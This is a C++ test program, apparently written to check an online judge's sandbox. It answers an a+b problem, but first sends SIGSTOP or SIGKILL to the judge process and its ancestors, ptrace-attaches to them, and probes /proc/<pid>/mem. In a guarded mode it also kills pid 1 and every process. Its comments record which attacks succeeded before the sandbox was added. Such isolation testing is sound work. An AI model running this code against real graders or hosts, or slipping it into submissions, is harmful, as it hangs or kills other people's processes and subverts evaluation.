/**
 * Attack (issue 12): signal, stop or trace the judge and the run's keeper.
 * Problem: aplusb of judge/testroot
 * ATTACK_SIGNALS (default "stop"):
 *   stop     SIGSTOP to the targets (the judge would hang past the wall limit)
 *   kill     SIGKILL to the targets
 *   trace    ptrace(PTRACE_ATTACH) (then detach) and open /proc/<pid>/mem for writing
 *   killall  SIGSTOP and SIGKILL to pid 1, then kill(-1, SIGKILL)
 * Targets: the parent (getppid() > 0), each ancestor (up to 4 levels) whose comm is "judge",
 *   and, only inside its own pid namespace, pid 1 and every other visible process.
 * Prints: "BROKEN-ptrace-<pid>" / "BROKEN-mem-<pid>" when trace got through, else a + b.
 * Contained = the judge ends in time with AC (the signals reach nothing of the judge).
 * Safety: pid 1, "every visible process" and kill(-1) are used only when in_own_pid_namespace()
 *   (its pid is below 10 and it sees fewer than 16 processes): run as root in the machine's
 *   pid namespace, kill(-1, SIGKILL) would end every process of the machine. Outside the
 *   sandbox it signals only the judge's own processes.
 * Status: stop, kill and trace got through the judge before the sandbox (a35ce73), as root and
 *   as nobody (a hang, a killed judge, BROKEN-ptrace); killall is inert there (the guard), so
 *   it only means something under a sandbox. All four contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>

#ifndef ATTACK_SIGNALS
#define ATTACK_SIGNALS "stop"
#endif

bool mode(const char* name) { return strcmp(ATTACK_SIGNALS, name) == 0; }

// A set of pids: ascending, each once (insert keeps it so).
struct Pids {
    int* items = nullptr;
    size_t count = 0, capacity = 0;
};

void insert(Pids& pids, int pid) {
    size_t at = 0;
    while (at < pids.count && pids.items[at] < pid) ++at;
    if (at < pids.count && pids.items[at] == pid) return;
    if (pids.count == pids.capacity) {
        pids.capacity = pids.capacity ? 2 * pids.capacity : 64;
        int* grown = static_cast<int*>(realloc(pids.items, pids.capacity * sizeof(int)));
        if (!grown) abort();
        pids.items = grown;
    }
    memmove(pids.items + at + 1, pids.items + at, (pids.count - at) * sizeof(int));
    pids.items[at] = pid;
    ++pids.count;
}

void erase(Pids& pids, int pid) {
    for (size_t at = 0; at < pids.count; ++at)
        if (pids.items[at] == pid) {
            memmove(pids.items + at, pids.items + at + 1, (pids.count - at - 1) * sizeof(int));
            --pids.count;
            return;
        }
}

// /proc/<pid>/<name> (at most 8 KiB of it) into `text`, NUL-terminated; "" when unreadable.
void read_proc(int pid, const char* name, char (&text)[8192]) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    size_t length = 0;
    if (FILE* file = fopen(path, "r")) {
        size_t got;
        while (length < sizeof text - 1 &&
               (got = fread(text + length, 1, sizeof text - 1 - length, file)) > 0)
            length += got;
        fclose(file);
    }
    text[length] = '\0';
}

bool comm_is(int pid, const char* name) {
    char comm[8192];
    read_proc(pid, "comm", comm);
    size_t length = strlen(comm);
    if (length > 0 && comm[length - 1] == '\n') comm[length - 1] = '\0';
    return strcmp(comm, name) == 0;
}

int parent_of(int pid) {
    char stat[8192];
    read_proc(pid, "stat", stat);
    const char* paren = strrchr(stat, ')');
    if (!paren) return 0;
    char state;
    int ppid = 0;
    return sscanf(paren + 1, " %c %d", &state, &ppid) == 2 ? ppid : 0;
}

Pids visible_pids() {
    Pids pids;
    if (DIR* proc = opendir("/proc")) {
        while (dirent* entry = readdir(proc))
            if (int pid = atoi(entry->d_name); pid > 0) insert(pids, pid);
        closedir(proc);
    }
    return pids;
}

bool in_own_pid_namespace() {
    if (getpid() >= 10) return false;
    Pids pids = visible_pids();
    free(pids.items);
    return pids.count < 16;
}

Pids targets() {
    Pids found;
    int parent = getppid();
    bool boxed = in_own_pid_namespace();
    if (parent > 1 || (parent == 1 && boxed)) insert(found, parent);
    for (int pid = parent, level = 0; pid > 1 && level < 4; ++level) {
        pid = parent_of(pid);
        if (pid > 1 && comm_is(pid, "judge")) insert(found, pid);
    }
    if (boxed) {
        free(found.items);
        found = visible_pids();
        insert(found, 1);
    }
    erase(found, getpid());
    return found;
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    char broken[64] = "";
    if (mode("stop") || mode("kill")) {
        Pids found = targets();
        for (size_t i = 0; i < found.count; ++i)
            kill(found.items[i], mode("stop") ? SIGSTOP : SIGKILL);
    } else if (mode("trace")) {
        Pids found = targets();
        for (size_t i = 0; i < found.count; ++i) {
            int pid = found.items[i];
            char mem[64];
            snprintf(mem, sizeof mem, "/proc/%d/mem", pid);
            int fd = open(mem, O_RDWR | O_CLOEXEC);
            if (fd >= 0) {
                close(fd);
                if (!broken[0]) snprintf(broken, sizeof broken, "BROKEN-mem-%d", pid);
            }
            if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
                int status;
                waitpid(pid, &status, __WALL);
                ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
                snprintf(broken, sizeof broken, "BROKEN-ptrace-%d", pid);
            }
        }
    } else if (mode("killall")) {
        if (in_own_pid_namespace()) {
            kill(1, SIGSTOP);
            kill(1, SIGKILL);
            kill(-1, SIGKILL);
        } else {
            fputs("signals: not in a pid namespace of its own: killall skipped\n", stderr);
        }
    }
    if (broken[0])
        puts(broken);
    else
        printf("%lld\n", a + b);
}
